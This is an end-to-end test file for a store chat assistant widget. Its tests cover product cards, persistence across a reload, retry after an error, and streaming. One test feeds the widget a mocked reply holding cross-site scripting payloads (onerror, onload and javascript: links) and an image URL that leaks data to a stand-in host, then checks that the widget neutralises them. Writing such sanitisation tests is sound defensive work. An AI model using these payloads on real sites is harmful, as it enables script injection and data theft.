import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { afterFrames, startSession, type E2eSession } from './harness';

let session: E2eSession;
beforeAll(async () => {
  session = await startSession();
});
afterAll(async () => {
  await session?.close();
});

async function openDemoChat() {
  const opened = await session.newPage();
  await opened.page.goto(`${session.server.url}/`);
  await opened.page.getByRole('button', { name: 'Ask a question' }).waitFor();
  return opened;
}

async function send(page: Page, text: string) {
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill(text);
  await box.press('Enter');
}

describe('chat on the demo page', () => {
  it('sends a message, shows the typing dots, then a markdown reply with product cards', async () => {
    const { page, pageErrors } = await openDemoChat();
    await page.getByRole('button', { name: 'New arrivals' }).click();
    await page.locator('store-assistant .typing-indicator').waitFor();
    expect(await page.getByRole('textbox', { name: 'Message' }).isDisabled()).toBe(true);
    const cards = page.locator('store-assistant .product-card');
    await cards.first().waitFor();
    expect(await page.locator('store-assistant .message.bot strong').first().textContent()).toBe('new arrivals');
    expect(await cards.count()).toBeGreaterThanOrEqual(3);
    const firstImage = cards.first().locator('img');
    await expect
      .poll(() => firstImage.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0))
      .toBe(true);
    const link = cards.first().getByRole('link', { name: /View product/ });
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('href')).toMatch(/\/products\/[a-z-]+$/);
    // Several cards scroll sideways inside the message.
    const list = page.locator('store-assistant .product-cards');
    expect(await list.evaluate((element) => element.scrollWidth > element.clientWidth)).toBe(true);
    expect(await page.locator('store-assistant .typing-indicator').count()).toBe(0);
    expect(pageErrors).toEqual([]);
  });

  it('keeps the conversation across a reload', async () => {
    const { page } = await openDemoChat();
    await page.getByRole('button', { name: 'Ask a question' }).click();
    await send(page, 'What is your size guide?');
    await page.locator('store-assistant .markdown table').waitFor();
    await page.reload();
    await page.locator('store-assistant .markdown table').waitFor();
    const bubbles = await page.locator('store-assistant .message.user').allTextContents();
    expect(bubbles.join(' ')).toContain('What is your size guide?');
  });

  it('a webhook answering 500 shows the Oops message, and Retry works', async () => {
    const { page } = await openDemoChat();
    await page.getByRole('button', { name: 'Ask a question' }).click();
    await page.locator('store-assistant .message.bot').first().waitFor();
    await send(page, 'Please fail once');
    await page.locator('store-assistant .messages').getByText('Oops! Something went wrong. Try again later.').waitFor();
    expect(await page.getByRole('textbox', { name: 'Message' }).isEnabled()).toBe(true);
    await page.getByRole('button', { name: 'Retry' }).click();
    await page.locator('store-assistant .messages').getByText('it works now').waitFor();
    expect(await page.locator('store-assistant .messages').getByText('Oops! Something went wrong.').count()).toBe(0);
    expect(await page.locator('store-assistant .message.user', { hasText: 'Please fail once' }).count()).toBe(1);
  });

  it('shows a streamed reply as it arrives', async () => {
    const { page } = await openDemoChat();
    await page.getByRole('button', { name: 'Ask a question' }).click();
    await page.locator('store-assistant .message.bot').first().waitFor();
    await send(page, 'Why is the sky blue?');
    const streaming = page.locator('store-assistant .bubble.streaming');
    await streaming.waitFor();
    const partial = (await streaming.textContent()) ?? '';
    await page.locator('store-assistant .messages').getByText('Try asking for a tote bag').waitFor();
    const final = (await page.locator('store-assistant .message.bot').last().textContent()) ?? '';
    expect(partial.length).toBeGreaterThan(0);
    expect(final.length).toBeGreaterThan(partial.length);
  });

  it('a hostile reply runs no script and leaves no unsafe markup', async () => {
    const { page } = await openDemoChat();
    await page.evaluate(() => {
      (window as unknown as { __ran: string[] }).__ran = [];
      for (const name of ['alert', 'confirm', 'prompt'] as const) {
        (window as unknown as Record<string, unknown>)[name] = () =>
          (window as unknown as { __ran: string[] }).__ran.push(name);
      }
    });
    await page.route('**/api/chat', (route) =>
      route.fulfill({
        status: 200,
        contentType: 'application/json',
        body: JSON.stringify({
          output:
            '<img src=x onerror=alert(1)> [x](javascript:alert(2)) <svg onload=alert(3)> ![p](https://evil.example/p.gif?leak=1)',
          products: [
            { title: '<img src=x onerror=alert(4)>', url: 'javascript:alert(5)', image: 'javascript:alert(6)' },
          ],
        }),
      }),
    );
    await page.getByRole('button', { name: 'Ask a question' }).click();
    await page.locator('store-assistant .product-card').waitFor();
    await afterFrames(page);
    expect(await page.evaluate(() => (window as unknown as { __ran: string[] }).__ran)).toEqual([]);
    const unsafe = await page.locator('store-assistant').evaluate((host) => {
      const root = host.shadowRoot as ShadowRoot;
      return [...root.querySelectorAll('*')].flatMap((element) => [
        ...(/^(svg|math|iframe|object|form|script|style)$/i.test(element.tagName) ? [element.tagName] : []),
        ...[...element.attributes]
          .filter((attribute) => /^on/i.test(attribute.name) || /^\s*javascript:/i.test(attribute.value))
          .map((attribute) => `${element.tagName}[${attribute.name}]`),
      ]);
    });
    expect(unsafe).toEqual([]);
    expect(await page.locator('store-assistant .message.bot img').count()).toBe(0);
  });
});
